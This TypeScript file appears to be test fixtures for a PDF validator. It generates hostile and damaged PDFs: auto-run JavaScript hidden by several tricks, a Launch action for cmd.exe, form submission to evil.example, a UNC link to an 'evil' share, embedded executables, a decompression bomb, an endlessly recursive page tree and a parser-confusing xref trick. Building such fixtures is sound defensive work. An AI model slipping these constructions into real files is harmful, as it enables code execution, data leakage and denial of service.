import { Readable } from "node:stream";
import { buffer } from "node:stream/consumers";
import { createDeflate, deflateSync } from "node:zlib";
import PDFKit from "pdfkit";

const HEADER = "%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n";

/** A stream as an object of a PDF. */
export function streamOf(bytes: Buffer, dict = ""): Buffer {
  return Buffer.concat([
    Buffer.from(`<< /Length ${bytes.length} ${dict} >>\nstream\n`),
    bytes,
    Buffer.from("\nendstream"),
  ]);
}

/** A PDF of these objects, numbered from 1, of which the first is its catalog. */
export function pdfOf(objects: readonly (string | Buffer)[], trailer = ""): Buffer {
  const parts = [Buffer.from(HEADER, "latin1")];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  for (const [index, object] of objects.entries()) {
    offsets.push(length);
    const part = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      typeof object === "string" ? Buffer.from(object, "latin1") : object,
      Buffer.from("\nendobj\n"),
    ]);
    parts.push(part);
    length += part.length;
  }
  const rows = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  const size = objects.length + 1;
  parts.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

/** A PDF of so many empty pages; `catalog` is more of its catalog, `page` of each page, `objects` come behind them. */
export function plainPdf(
  pages: number,
  { catalog = "", page = "", objects = [] }: { catalog?: string; page?: string; objects?: (string | Buffer)[] } = {},
): Buffer {
  const kids = Array.from({ length: pages }, (_, index) => `${index + 3} 0 R`).join(" ");
  const leaf = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Resources << >> ${page} >>`;
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
    ...Array.from({ length: pages }, () => leaf),
    ...objects,
  ]);
}

/** Objects in a compressed container, of these numbers. */
export function objectStream(objects: Record<number, string>): Buffer {
  let [index, bodies] = ["", ""];
  for (const [number, object] of Object.entries(objects)) {
    index += `${number} ${bodies.length} `;
    bodies += `${object} `;
  }
  const count = Object.keys(objects).length;
  return streamOf(deflateSync(index + bodies), `/Type /ObjStm /N ${count} /First ${index.length} /Filter /FlateDecode`);
}

/** A PDF that opens with a password only, or that everybody may open and not everybody print. */
export function encryptedPdf(password: { userPassword?: string; ownerPassword?: string }): Promise<Buffer> {
  const document = new PDFKit(password);
  document.text("Nordhem").end();
  return buffer(document);
}

const SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

/** PDFs that would do something, by what. */
export function activePdfs(): Record<string, Buffer> {
  const annotated = (annotation: string, ...objects: (string | Buffer)[]) =>
    plainPdf(1, { page: `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${annotation} >>]`, objects });
  const attached = "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>";
  return {
    "a script when it is opened": plainPdf(1, { catalog: `/OpenAction ${SCRIPT}` }),
    "a script that is written in another way": plainPdf(1, {
      catalog: "/OpenAction << /S /J#61vaScr#69pt /J#53 (app.alert\\(1\\)) >>",
    }),
    "a script under a name": plainPdf(1, {
      catalog: "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>",
      objects: [SCRIPT],
    }),
    "a script that something refers to": plainPdf(1, {
      catalog: "/OpenAction << /S 4 0 R /JS 5 0 R >>",
      objects: ["/JavaScript", streamOf(Buffer.from("app.alert(1)"))],
    }),
    "a script in a compressed part": plainPdf(1, {
      catalog: "/OpenAction 9 0 R",
      objects: [objectStream({ 9: SCRIPT })],
    }),
    "a script on a page": plainPdf(1, { page: `/AA << /O ${SCRIPT} >>` }),
    "a script of a field": annotated(`/Subtype /Widget /FT /Tx /AA << /K ${SCRIPT} >>`),
    "a script that plays a film": annotated("/Subtype /Screen /A << /S /Rendition /JS (x) >>"),
    "a program that is started": annotated("/Subtype /Link /A << /S /Launch /F (cmd.exe) >>"),
    "another file that is opened": annotated(
      "/Subtype /Link /A << /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>",
    ),
    "a form that is sent": annotated("/Subtype /Link /A << /S /SubmitForm /F (https://evil.example) >>"),
    "a file that is attached": plainPdf(1, {
      catalog: "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
      objects: [attached, streamOf(Buffer.from("MZ"), "/Type /EmbeddedFile")],
    }),
    "a file on a page": annotated("/Subtype /FileAttachment /FS 4 0 R", attached, streamOf(Buffer.from("MZ"))),
    "a form with a program of its own": plainPdf(1, {
      catalog: "/AcroForm << /Fields [] /XFA 4 0 R >>",
      objects: [streamOf(Buffer.from("<xdp/>"))],
    }),
    "an action behind another one": annotated(
      `/Subtype /Link /A << /S /URI /URI (https://a.example) /Next ${SCRIPT} >>`,
    ),
  };
}

/** PDFs that are none, or not all of one. */
export function damagedPdfs(): Record<string, Buffer> {
  const whole = plainPdf(2, {
    objects: [streamOf(deflateSync(Buffer.alloc(5000, "Nordhem ")), "/Filter /FlateDecode")],
  });
  const pages = (kids: string) =>
    pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", `<< /Type /Pages /Kids [${kids}] /Count 1 >>`]);
  return {
    "a beginning": Buffer.from("%PDF-1.7\n"),
    "one that is cut": whole.subarray(0, whole.length / 2),
    "one without a catalog": pdfOf(["<< /Type /Pages /Kids [] /Count 0 >>"]),
    "one without a page": pages(""),
    "one of whose pages one is missing": pdfOf([
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    ]),
    "one whose pages are their own parent": pages("2 0 R"),
    "one with a number where its pages are": pdfOf(["<< /Type /Catalog /Pages 7 >>"]),
    "lists within lists": plainPdf(1, { objects: ["[".repeat(500_000)] }),
    "lists within lists that end": plainPdf(1, { objects: ["[".repeat(200_000) + "]".repeat(200_000)] }),
    "a container that holds less than it says": plainPdf(1, {
      objects: [streamOf(deflateSync("9 0 true "), "/Type /ObjStm /N 400 /First 4 /Filter /FlateDecode")],
    }),
  };
}

/** A small file whose container unpacks to so many mebibytes. */
export async function pdfBomb(mebibytes: number): Promise<Buffer> {
  const numbers = Buffer.alloc(1024 * 1024, "0 ");
  const packing = Readable.from(Array.from({ length: mebibytes }, () => numbers)).pipe(createDeflate({ level: 1 }));
  const packed = deflateSync(await buffer(packing));
  const dict = "/Type /ObjStm /N 1000000000 /First 1 /Filter [/FlateDecode /FlateDecode]";
  return plainPdf(1, { objects: [streamOf(packed, dict)] });
}

/** A small file whose pages are counted for ever: each of its lists of pages has the next one twice. */
export function endlessPdf(): Buffer {
  const LEVELS = 60;
  const levels = Array.from({ length: LEVELS }, (_, level) => {
    const next = `${level + 3} 0 R`;
    return `<< /Type /Pages /Kids [${next} ${next}] /Count 2 >>`;
  });
  return pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", ...levels, "<< /Type /Page /MediaBox [0 0 9 9] >>"]);
}

/**
 * A PDF with a script that only a reader finds which trusts its table of places: the table leads into the bytes of a stream, where the
 * catalog stands once more, with it.
 */
export function pdfOfTwoFaces(): Buffer {
  const hidden = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >>\nendobj\n`;
  const plain = plainPdf(1, { objects: [streamOf(Buffer.from(hidden))] });
  const place = String(plain.indexOf(hidden)).padStart(10, "0");
  const row = plain.indexOf("\n0000000000 65535 f \n") + "\n0000000000 65535 f \n".length;
  plain.write(place, row, "latin1");
  return plain;
}
